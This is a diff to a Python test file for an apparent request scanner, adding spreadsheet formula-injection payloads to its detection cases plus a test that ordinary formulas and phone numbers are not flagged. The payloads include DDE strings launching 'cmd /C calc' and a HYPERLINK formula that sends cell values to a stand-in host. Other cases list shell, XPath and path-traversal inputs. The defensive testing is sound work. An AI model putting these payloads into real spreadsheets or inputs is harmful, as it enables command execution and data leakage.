@@ -128,6 +128,10 @@ CASES = [
     ("query", "subprocess.Popen(['id'])", "python_command_call"),
     ("query", "')] | //user/*[contains(*,'", "xpath_injection"),
     ("path", "/WEB-INF/web.xml", "restricted_file"),
+    ("query", "=cmd|' /C calc'!A0", "formula_injection"),
+    ("query", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_injection"),
+    ("body", '=HYPERLINK("http://x.example.com?x="&A1&A2,"Error")', "formula_injection"),
+    ("query", 'DDE ("cmd";"/C calc";"!A0")A0', "formula_injection"),
     ("path", "/static/..;/META-INF/MANIFEST.MF", "restricted_file"),
     ("query", "this.constructor.constructor('return process')()", "xss_sink_payload"),
     ("query", "a;wh''oami", "shell_obfuscated_command"),
@@ -452,3 +456,11 @@ def test_python_that_mentions_a_command_is_not_a_pickle_nor_blocked_in_a_body():
                  "yaml.safe_load(stream)  # never yaml.load with !!python tags from users"]:
         assert "yaml_pickle_object" not in names(scan_at("body", text)), text
         assert "python_command_call" not in names(scan_at("body", text)), text
+
+
+
+@pytest.mark.parametrize("value", ["=SUM(A1:A3)", "=1+1", "-5", "+44 20 7946 0958", "@username", "=A1*2 (the total)"])
+def test_a_spreadsheet_formula_or_a_signed_number_is_not_formula_injection(value):
+    """A formula that computes, a phone number, a handle: not what runs a program or sends cells out."""
+    for where in ("query", "body"):
+        assert "formula_injection" not in names(scan_at(where, value)), (where, value)
